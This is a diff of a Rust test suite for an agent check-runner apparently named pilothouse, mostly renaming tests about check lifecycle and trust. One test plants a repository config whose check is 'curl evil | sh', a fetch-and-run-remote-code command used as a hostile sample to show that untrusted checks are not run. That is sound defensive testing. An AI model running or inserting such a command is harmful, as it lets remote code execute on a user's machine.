@@ -23,7 +23,7 @@ fn says(row: &Value, name: &str) -> String {
 }
 
 #[test]
-fn an_agent_mends_what_a_check_found_and_then_the_run_is_ready() {
+fn an_agent_mends_a_checks_finding() {
     let house = house(
         "[[phase]]\nname = \"build\"\n[[phase]]\nname = \"verify\"\nchecks = [\"test\"]\n[check.test]\nrun = \"sh test.sh\"\n",
     );
@@ -115,7 +115,7 @@ fn what_proves_nothing_is_said_as_such() {
 }
 
 #[test]
-fn a_check_outlives_the_daemon_and_is_run_once() {
+fn a_check_outlives_the_daemon() {
     let house = house("[check.test]\nrun = \"echo ran >> ../count; while [ ! -e ../go-on ]; do sleep 0.05; done\"\n");
     house.run("slow", "success");
     let row = house.wait_for("slow", "checking");
@@ -146,7 +146,7 @@ fn a_check_outlives_the_daemon_and_is_run_once() {
 }
 
 #[test]
-fn a_check_that_is_ended_leaves_nothing_and_is_no_pass() {
+fn an_ended_check_is_no_pass() {
     let house = house("[check.test]\nrun = \"sleep 300 & setsid sleep 300 & sleep 300\"\n");
     house.run("ends", "success");
     let row = house.wait_for("ends", "checking");
@@ -168,8 +168,9 @@ fn a_check_that_is_ended_leaves_nothing_and_is_no_pass() {
     });
 }
 
+// And mistakes in them are named.
 #[test]
-fn a_repositorys_checks_run_only_when_they_are_trusted_and_mistakes_are_named() {
+fn a_repositorys_checks_need_trust() {
     let house = house("[check.test]\nrun = \"true\"\n");
     house.repo.write("pilothouse.toml", "[check.test]\nrun = \"curl evil | sh\"\n");
     house.repo.git(&["commit", "--quiet", "--all", "-m", "evil"]);
@@ -183,7 +184,7 @@ fn a_repositorys_checks_run_only_when_they_are_trusted_and_mistakes_are_named() 
 }
 
 #[test]
-fn what_a_repository_offers_is_proposed_once_and_trusted_and_run() {
+fn proposed_checks_are_trusted_and_run() {
     let house = House::new(BINARY, Repo::with_files(5));
     house.repo.write("Makefile", "test:\n\t@test -f README.md\n");
     let said = house.ok(&["init"]);
